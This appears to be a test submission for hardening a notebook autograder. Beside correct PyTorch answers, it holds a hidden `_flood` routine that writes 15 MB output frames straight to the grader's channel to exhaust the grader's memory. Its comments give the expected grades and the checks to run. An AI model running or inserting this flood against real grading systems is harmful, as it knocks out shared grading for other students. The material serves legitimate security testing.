# Batch attack (grader memory): writes display_data frames of 15 MB each straight onto the
# grader's channel (fd 3), as fast as it can, during one cell. The runner's 2 MB cap per output is
# applied inside the student's process (untrusted); the pool accepts any frame up to 16 MB and
# keeps every output of a cell, with no cap on their number or total size. The grading process
# parses and holds all of it (measured here: ~282 MiB in 5 s through display(), far more through
# raw frames), then writes it into the autograded notebook. With the default 30 s timeout and a
# few such cells, one submission exhausts the grader's memory. Here: three cells of 3 s each.
# A secure grader caps the output it keeps per cell and notebook, whatever the child sends.
# Answers are right: full marks. Check: peak RSS of the grading processes, size of
# autograded/<this>/tensors/tensors.ipynb, the honest students' grades.
# expect single_layer_sum: full
# expect single_layer_mm: full
# expect multilayer: full
# expect numpy_bridge: full
# %% single_layer_sum
y = activation(torch.sum(features * weights) + bias)
# %% after test_single_layer_sum_value
import json as _json, os as _os, struct as _struct, time as _time
_frame = _json.dumps({"output": {"output_type": "display_data",
                                 "data": {"text/plain": "x" * 15_000_000}, "metadata": {}}}).encode()
_frame = _struct.pack(">I", len(_frame)) + _frame
def _flood(seconds=3.0):  # stays under the cell timeout, so the cell ends normally and is kept
    end = _time.monotonic() + seconds
    while _time.monotonic() < end:
        _os.write(3, _frame)
_flood()
# %% after test_single_layer_mm_method
_flood()
# %% after test_multilayer_output
_flood()
# %% single_layer_mm
y = activation(torch.mm(features, weights.view(5, 1)) + bias)
# %% multilayer
h = activation(torch.mm(features, W1) + B1)
output = activation(torch.mm(h, W2) + B2)
# %% numpy_bridge
b = torch.from_numpy(a)
b.mul_(2)
